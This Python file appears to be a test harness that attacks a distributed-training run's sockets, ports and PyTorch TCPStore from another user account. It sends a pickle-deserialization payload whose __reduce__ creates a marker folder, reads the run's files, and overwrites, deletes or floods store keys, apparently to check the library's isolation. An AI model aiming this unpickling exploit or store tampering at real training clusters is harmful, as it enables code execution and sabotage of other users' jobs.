"""Attacks on the sockets of a run by a program of another user; an attack ends after a few seconds.

If started as root, the program becomes the user `nobody`. Otherwise it is a program of the same user, without the key.
"""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterable
from datetime import timedelta
from pathlib import Path
from typing import Any, Final

import psutil
import torch.distributed as dist

NOBODY: Final = 65534
TIMEOUT_S: Final = 0.5
STORE_S: Final = 20.0  # until the store of a launcher answers, which admits any process
LIMIT_S: Final = 50.0  # of one attack
START_S: Final = 60.0  # until a launcher listens, and until its run begins to join
SPELL_S: Final = 4.0  # duration of the attack from that moment; ranks may not find each other during it
GARBAGE: Final = (b"\0" * 8, b"\xff" * 4096, b"GET / HTTP/1.0\r\n\r\n")


"".encode("idna")  # imported now: another user may have no permission to read Python's files


class Exploit:
    """Create a folder when unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> Any:
        return os.mkdir, (self.marker,)


def external_addresses() -> list[str]:
    """Return this machine's addresses except loopback addresses."""
    interfaces = [address for addresses in psutil.net_if_addrs().values() for address in addresses]
    return [nic.address for nic in interfaces if nic.family == socket.AF_INET and not nic.address.startswith("127.")]


def attack(targets: dict[str, Any]) -> list[str]:
    """Attack the sockets of a run; return the successful attacks.

    Args:
        targets: `addresses` of the run's machine except loopback, `ports` of its processes, paths of Unix `sockets`,
            `files` of the run, the `marker`, and whether a launcher has started the run (`launched`).
    """
    reached = []
    successes, exploit = [], pickle.dumps(Exploit(targets["marker"]))
    for path in targets["files"]:
        with contextlib.suppress(OSError):
            Path(path).read_bytes()
            successes.append(f"read {path}")
    for path in targets["sockets"]:
        with contextlib.suppress(OSError):
            for data in (*GARBAGE, exploit, (len(exploit)).to_bytes(4, "big") + exploit):
                with socket.socket(socket.AF_UNIX) as peer:
                    peer.connect(path)
                    successes.append(f"connected to {path}")
                    peer.sendall(data)
    for port in targets["ports"]:
        for address in ("127.0.0.1", *targets["addresses"]):
            with contextlib.suppress(OSError):
                for data in (*GARBAGE, exploit):
                    with socket.create_connection((address, port), TIMEOUT_S) as peer:
                        reached.append((address, port))
                        peer.sendall(data)
    reached = sorted(set(reached))
    successes += [f"connected to {address}:{port}" for address, port in reached if address != "127.0.0.1"]
    stores = [threading.Thread(target=attack_store, args=(*target, exploit, successes)) for target in reached]
    for thread in stores:
        thread.daemon = True  # torch waits without limit for a port without a store
        thread.start()
    deadline, together = time.monotonic() + STORE_S, time.monotonic() + TIMEOUT_S  # all threads run at once
    for thread in stores:
        thread.join(max(0.0, together - time.monotonic()))
    while targets["launched"] and not any("a store" in success for success in successes):
        if time.monotonic() > deadline:
            break
        time.sleep(0.01)
    return successes


def attack_store(address: str, port: int, exploit: bytes, successes: list[str]) -> None:
    """Attack a port that may belong to a TCPStore."""
    limit = timedelta(seconds=STORE_S)
    with contextlib.suppress(RuntimeError):
        store = dist.TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=limit)
        store.list_keys()  # fails if a socket has connected to its own port, which was closed in the meantime
        successes.append(f"a store at port {port}")
        write_to(store, exploit)


def write_to(store: Any, exploit: bytes) -> None:
    """Attack each value of a run in a store: overwrite it, add to it, replay it under another key, delete it.

    torchrun's own keys are not attacked: its rendezvous unpickles some of them.
    """
    prefixes = {"", "fabricx/", *(key.split("job")[0] for key in store.list_keys() if "job" in key)}
    for prefix in prefixes:
        store.set(f"{prefix}stop/requested", "interrupted")
        for job in range(3):
            store.set(f"{prefix}job{job}/stop/0/requested", "interrupted")
            for number in range(1, 9):
                store.set(f"{prefix}job{job}/exchange/server/0/0/from/{number}", exploit.hex())
    ours = [key for key in store.list_keys() if "fabricx" in key or "exchange" in key]
    for key, other in zip(ours, reversed(ours), strict=True):
        before = store.get(key)
        for value in (store.get(other), b"x" * (1 << 24), exploit):
            store.set(key, value)
        store.compare_set(key, exploit, before)
        store.delete_key(key)
        store.add(key, 1 << 40)


def _wait_for(port: int) -> None:
    """Wait until a program listens at a port, at most `START_S`."""
    deadline = time.monotonic() + START_S
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), TIMEOUT_S):
            return
        time.sleep(0.002)


def overwrite(port: int, exploit: bytes, kind: str) -> list[str]:
    """Overwrite or delete the values of a run in its launcher's store, from the run's start until the store has closed.

    torchrun's own keys are not attacked: its rendezvous unpickles some of them.
    """
    written: set[str] = set()
    with contextlib.suppress(RuntimeError):
        _wait_for(port)  # torch's client may wait for a minute after refused connections
        limit = timedelta(seconds=START_S)  # a launcher starts slowly on a busy machine
        store: Any = dist.TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False, timeout=limit)
        deadline = time.monotonic() + START_S
        while time.monotonic() < deadline:
            for key in store.list_keys():
                if "fabricx" in key:
                    deadline = deadline if written else time.monotonic() + SPELL_S
                    written.add(key)
                    if kind == "delete":
                        store.delete_key(key)
                    else:
                        store.set(key, exploit)
            time.sleep(0.001)
    return sorted(written)


def as_another_user(action: Callable[[], Any], limit_s: float = LIMIT_S) -> str:
    """Run an action in a child process without this user's rights; return its result as text."""
    reader, writer = os.pipe()
    if (child := os.fork()) == 0:
        os.close(reader)
        try:
            if os.geteuid() == 0:
                os.setgroups([])
                os.setresgid(NOBODY, NOBODY, NOBODY)
                os.setresuid(NOBODY, NOBODY, NOBODY)
            os.write(writer, json.dumps(action()).encode())
        except BaseException as error:
            os.write(writer, json.dumps([f"{type(error).__name__}: {error}"]).encode())
        os._exit(0)
    os.close(writer)
    with open(reader) as file:
        deadline = time.monotonic() + limit_s
        while os.waitpid(child, os.WNOHANG) == (0, 0):
            if time.monotonic() > deadline:
                os.kill(child, signal.SIGKILL)
                os.waitpid(child, 0)
                break
            time.sleep(0.01)
        return file.read() or json.dumps([f"the attack took more than {limit_s} s, and was ended"])


def main(folder: Path, names: Iterable[str]) -> None:
    """Attack each of these runs when its file of targets exists, and write the result to a file."""
    for name in names:
        while not (folder / f"{name}.targets").exists():
            time.sleep(0.01)
        targets = json.loads((folder / f"{name}.targets").read_text())
        result = as_another_user(lambda targets=targets: attack(targets))  # type: ignore[misc]
        (folder / f"{name}.new").write_text(result)
        (folder / f"{name}.new").rename(folder / f"{name}.result")


if __name__ == "__main__":
    if sys.argv[2] in ("overwrite", "delete"):
        marker = str(Path(sys.argv[1], "marker"))
        exploit = pickle.dumps(Exploit(marker))
        print(as_another_user(lambda: overwrite(int(sys.argv[3]), exploit, sys.argv[2]), 2.5 * START_S))
    else:
        main(Path(sys.argv[1]), sys.argv[2:])
